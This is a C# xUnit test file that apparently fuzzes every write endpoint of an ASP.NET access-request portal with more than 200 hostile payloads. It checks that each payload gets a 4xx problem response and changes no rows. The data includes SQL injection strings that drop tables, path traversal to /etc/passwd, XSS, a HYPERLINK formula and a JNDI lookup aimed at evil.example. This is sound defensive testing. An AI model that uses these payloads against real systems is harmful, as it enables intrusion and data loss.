using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using LockboxPortal.Features.ApiTokens;
using LockboxPortal.Features.Audit;
using LockboxPortal.Hosting;
using LockboxPortal.Tests.Infrastructure;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace LockboxPortal.Tests.Api;

/// <summary>
/// The hostile-input corpus (issue 20): over 200 payloads (malformed and truncated JSON, wrong types, oversized
/// fields, control, NUL, bidi and zero-width characters, lookalike traversal, SQL and markup fragments, wrong and
/// bogus content types) sent to every write endpoint of the API, against the real app on a real port. The endpoints
/// come from the app's own endpoint data source, so a new one is covered without touching this test. Every answer
/// is a 4xx RFC 9457 problem, never a 5xx, and no row changes (the trail's records of refused calls aside).
/// </summary>
public sealed class HostileInputCorpusTests(HostileInputCorpusTests.Portal portal) : IClassFixture<HostileInputCorpusTests.Portal>
{
    private static readonly string[] HostileStrings =
    [
        "", " ", "\u0000", "ana\u0000@contoso.com", "\u0001\u0002\u001f\u007f", "\r\n\r\nX-Injected: 1", "\u202Emoc.osotnoc@ana",
        "ana\u200B@contoso.com", "\uFEFF", "\u2066isolate\u2069", "\u200D\u200C\u2060", "..", "../../../etc/passwd",
        "Exchange:mailbox/ana@contoso.com/%2e%2e/bob", "Exchange:mailbox/ana@contoso.com/.%2e/bob", "Exchange:mailbox/ana@contoso.com/..\\bob",
        "Exchange:mailbox/ana@contoso.com/\uff0e\uff0e/bob", "Exchange:mailbox/ana@contoso.com/\u2025/bob", "Exchange:mailbox/*",
        "' OR '1'='1", "'; DROP TABLE AccessRequests; --", "\" OR \"\"=\"", "1; DELETE FROM AuditEntries", "<script>alert(1)</script>",
        "=HYPERLINK(\"https://evil.example\",\"x\")", "{{7*7}}", "${jndi:ldap://evil.example/a}", "\ud83d\ude00\ud83d\ude00",
        new string('x', 10_000), new string('\u202E', 3_000), "00000000-0000-0000-0000-000000000000", "read,readWrite", "approve,reject",
    ];

    private static readonly string[] HostileValues =
    [
        .. HostileStrings.Select(s => JsonSerializer.Serialize(s)),
        "0", "-1", "2147483648", "-9223372036854775809", "1e309", "1.5", "true", "false", "null", "[]", "{}", "[1,2,3]",
        "{\"$gt\": \"\"}", "\"\\ud800\"", "\"\\u0000\"",
    ];

    private static readonly string[] RawBodies =
    [
        "{", "}", "[", "\"", "{\"", "{\"a\"", "{\"a\":", "{\"a\":1", "{\"a\":1,}", "{'a':1}", "{a:1}", "nul", "tru", "{\"a\":\"\\u12\"}",
        "{\"a\":\"\\x41\"}", "{}{}", "{} trailing", "[]]", "{\"a\":1}}", "\u0000", "{\"a\":\"\u0000\"}", "\uFEFF{}", "/* comment */ {}",
        "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":-}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":0x10}", "   ", "\t\r\n",
        new string('[', 5_000) + new string(']', 5_000), string.Concat(Enumerable.Repeat("{\"a\":", 1_000)) + "1" + new string('}', 1_000),
        "{\"a\":\"" + new string('y', 2_000_000) + "\"}", "{" + string.Join(",", Enumerable.Range(0, 20_000).Select(i => $"\"k{i}\":{i}")) + "}",
        "{\"a\":1,\"a\":2}", "{\"decision\":\"approve\",\"decision\":\"reject\"}",
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/xml", "text/html", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "application/json; charset=utf-16", "application/json; charset=bogus", "application/json; charset=\"", "application/json;;",
        "bogus", "application/", "*/*", "application/octet-stream", "application/json, text/plain", "text/json; charset=utf-7",
    ];

    /// <summary>The payloads: a name for the report, the Content-Type (null: none) and the body's bytes.</summary>
    public static TheoryData<string> Payloads()
    {
        var data = new TheoryData<string>();
        foreach (var name in Corpus().Keys)
        {
            data.Add(name);
        }

        return data;
    }

    private static readonly Lazy<Dictionary<string, (string? ContentType, byte[] Body)>> All = new(Build);

    private static Dictionary<string, (string? ContentType, byte[] Body)> Corpus() => All.Value;

    private static Dictionary<string, (string? ContentType, byte[] Body)> Build()
    {
        var corpus = new Dictionary<string, (string?, byte[])>();
        void Add(string name, string? type, byte[] body) => corpus[$"{corpus.Count:D3} {name}"] = (type, body);
        void Json(string name, string json) => Add(name, "application/json", Encoding.UTF8.GetBytes(json));

        foreach (var (raw, i) in RawBodies.Select((r, i) => (r, i)))
        {
            Json($"raw-{i}", raw);
        }

        foreach (var (value, i) in HostileValues.Select((v, i) => (v, i)))
        {
            Json($"top-level-{i}", value);
            Json($"unknown-key-{i}", $"{{\"x\": {value}}}");
            Json($"every-field-{i}", Fields(value));
            Json($"tenant-and-scope-{i}", $"{{\"tenantId\": {value}, \"tenant\": {value}, \"scope\": {value}, \"accessLevel\": \"read\"}}");
            Json($"decision-{i}", $"{{\"decision\": {value}, \"comment\": {value}, \"reason\": {value}}}");
        }

        foreach (var (type, i) in ContentTypes.Select((t, i) => (t, i)))
        {
            Add($"content-type-{i}", type, Encoding.UTF8.GetBytes("{\"decision\": \"approve\"}"));
        }

        Add("no-content-type", null, Encoding.UTF8.GetBytes("{}"));
        Add("empty-body", "application/json", []);
        Add("invalid-utf8", "application/json", [0x7B, 0x22, 0x61, 0x22, 0x3A, 0x22, 0xFF, 0xFE, 0x22, 0x7D]);
        Add("overlong-utf8-dot", "application/json", [0x7B, 0x22, 0x61, 0x22, 0x3A, 0x22, 0xC0, 0xAE, 0xC0, 0xAE, 0x22, 0x7D]);
        Add("utf16-body", "application/json", Encoding.Unicode.GetBytes("{\"decision\": \"approve\"}"));
        Add("gzip-bytes", "application/json", [0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00]);
        return corpus;
    }

    /// <summary>An object with every field any write endpoint reads set to <paramref name="value"/>.</summary>
    private static string Fields(string value) =>
        "{" + string.Join(", ", new[] { "tenantId", "scope", "accessLevel", "justification", "ticketReference", "durationMinutes", "decision", "comment", "reason", "tenant", "engineer" }
            .Select(f => $"\"{f}\": {value}")) + "}";

    [Fact]
    public void TheCorpus_HasAtLeast200Payloads_AndTheAppHasTheKnownWriteEndpoints()
    {
        Assert.True(Corpus().Count >= 200, $"{Corpus().Count} payloads");
        var paths = portal.WriteEndpoints().Select(e => e.Path).ToList();
        Assert.Contains("/api/v1/requests", paths);
        Assert.Contains("/api/v1/access-checks", paths);
        Assert.Contains(paths, p => p.EndsWith("/decision", StringComparison.Ordinal));
        Assert.Contains(paths, p => p.EndsWith("/revoke", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task HostilePayload_OnEveryWriteEndpoint_IsA4xxProblem_AndChangesNoRow(string payload)
    {
        var (contentType, body) = Corpus()[payload];
        var before = await portal.RowCountsAsync();

        foreach (var endpoint in portal.WriteEndpoints())
        {
            using var client = portal.Caller(endpoint.ServiceClient ? ApiPortalFixture.ServiceClient : ApiPortalFixture.Engineer);
            using var content = new ByteArrayContent(body);
            if (contentType is not null)
            {
                content.Headers.TryAddWithoutValidation("Content-Type", contentType);
            }

            using var response = await client.SendAsync(new HttpRequestMessage(new HttpMethod(endpoint.Method), endpoint.Path) { Content = content });

            var status = (int)response.StatusCode;
            Assert.True(status is >= 400 and < 500, $"{endpoint.Method} {endpoint.Path} answered {status} to {payload}");
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
            Assert.StartsWith("https://lockboxportal.dev/problems/", problem.GetProperty("type").GetString(), StringComparison.Ordinal);
            Assert.Equal(status, problem.GetProperty("status").GetInt32());
            Assert.False(string.IsNullOrWhiteSpace(problem.GetProperty("title").GetString()));
        }

        Assert.Equal(before, await portal.RowCountsAsync());
    }

    /// <summary>The app on a real port, with a request that is already closed for the endpoints that take an id.</summary>
    public sealed class Portal : ApiPortalFixture, IAsyncLifetime
    {
        private string _baseUrl = "";
        private Guid _closed;

        protected override PortalFactory CreateFactory(string databasePath)
        {
            var factory = new PortalFactory(databasePath, realPort: true)
                .With("Api:RateLimit:PersonalPermits", "1000000")
                .With("Api:RateLimit:ServiceClientPermits", "1000000");
            _baseUrl = factory.StartOnRealPort();
            return factory;
        }

        async Task IAsyncLifetime.InitializeAsync()
        {
            await InitializeAsync();
            using var client = Caller(Engineer);
            var filed = await client.PostAsJsonAsync("/api/v1/requests", new
            {
                tenantId = DemoData.ContosoId,
                scope = "Exchange:mailbox/ana@contoso.com",
                accessLevel = "read",
                reason = "maintenance", justification = "Customer reports missing calendar items in the mailbox.",
            });
            Assert.Equal(HttpStatusCode.Created, filed.StatusCode);
            _closed = (await filed.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
            Assert.Equal(HttpStatusCode.OK, (await client.PostAsync($"/api/v1/requests/{_closed}/cancel", null)).StatusCode);
        }

        public HttpClient Caller(string who)
        {
            var client = new HttpClient { BaseAddress = new Uri(_baseUrl) };
            client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", TokenOf(who));
            return client;
        }

        /// <summary>Every API endpoint that takes a write (POST, PUT, PATCH, DELETE), as the app maps it, its route values filled in.</summary>
        public IReadOnlyList<(string Method, string Path, bool ServiceClient)> WriteEndpoints() =>
            Factory.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
                .Where(e => e.RoutePattern.RawText is { } raw && raw.TrimStart('/').StartsWith("api/", StringComparison.Ordinal))
                .SelectMany(e => (e.Metadata.GetMetadata<Microsoft.AspNetCore.Routing.HttpMethodMetadata>()?.HttpMethods ?? [])
                    .Where(m => m is "POST" or "PUT" or "PATCH" or "DELETE")
                    .Select(m => (m, Fill(e.RoutePattern.RawText!), e.Metadata.GetOrderedMetadata<IAuthorizeData>().Any(a => a.Policy == ApiTokenDefaults.ServiceClientPolicy))))
                .Distinct()
                .ToList();

        /// <summary>How many rows each table holds; of the trail, the entries other than records of refused calls and checks.</summary>
        public async Task<Dictionary<string, long>> RowCountsAsync()
        {
            await using var db = NewContext();
            // Every table the model maps, on either database (the trail is counted below, without refusals and checks).
            var tables = db.Model.GetEntityTypes()
                .Select(e => e.GetTableName())
                .OfType<string>()
                .Where(name => name != "AuditEntries")
                .Distinct()
                .ToList();
            var counts = new Dictionary<string, long>();
            foreach (var table in tables)
            {
                // The names come from the model, not from a caller.
                await db.Database.OpenConnectionAsync();
                await using var command = db.Database.GetDbConnection().CreateCommand();
                command.CommandText = $"SELECT COUNT(*) FROM \"{table}\"";
                counts[table] = Convert.ToInt64(await command.ExecuteScalarAsync(), System.Globalization.CultureInfo.InvariantCulture);
            }

            counts["AuditEntries (changes)"] = await db.AuditEntries.LongCountAsync(e =>
                e.EventType != AuditEventType.Operation_Refused && e.EventType != AuditEventType.Grant_AccessChecked);
            return counts;
        }

        private string Fill(string pattern) =>
            "/" + string.Join('/', pattern.Trim('/').Split('/').Select(part => part.StartsWith('{') ? _closed.ToString() : part));
    }
}
